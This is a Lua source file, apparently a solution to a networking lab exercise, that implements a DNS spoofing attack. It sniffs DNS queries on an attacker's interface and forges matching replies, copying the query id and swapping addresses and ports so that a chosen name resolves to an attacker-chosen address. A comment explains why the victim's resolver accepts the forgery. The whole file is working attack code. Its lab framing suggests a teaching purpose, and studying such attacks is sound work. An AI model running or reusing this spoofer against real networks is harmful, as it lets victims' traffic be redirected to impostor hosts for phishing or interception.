-- A solution to exercise 12 (scripts/lab/dnsspoof.lua).
local packet, frame = require "packet", require "frame"

local M = {}

-- The answer goes back the way the query came, every address and port
-- swapped: from the server's MAC, IP and port 53. The victim's resolver
-- checks the IP source, the ports, the id and the question; nothing on a
-- hub checks the MAC.
function M.answer(query, addr)
  local q = frame.parse(query)
  local question = q.dns.qd[1]
  return frame.build{
    frame.ether{ src = q.ether.dst, dst = q.ether.src },
    frame.ipv4{ src = q.ipv4.dst, dst = q.ipv4.src },
    frame.udp{ sport = q.udp.dport, dport = q.udp.sport },
    frame.dns{ id = q.dns.id, qr = 1, rd = q.dns.rd, ra = 1, qd = q.dns.qd,
      an = {{ rrname = question.qname, ttl = 300, rdata = addr }} },
  }
end

-- fqdn is name as DNS writes it: lower case, with the final dot.
local function fqdn(name)
  name = name:lower()
  if name:sub(-1) ~= "." then name = name .. "." end
  return name
end

function M.spoof(attacker, name, addr)
  name = fqdn(name)
  local s = packet.open(attacker.ifname, { netns = attacker, filter = "udp dst port 53" })
  s:on(function(bytes)
    local q = frame.parse(bytes)
    local question = q.dns and q.dns.qr == 0 and q.dns.qd[1]
    if question and fqdn(question.qname) == name and question.qtype == "A" then
      s:send(M.answer(bytes, addr))
    end
  end)
  return s
end

return M
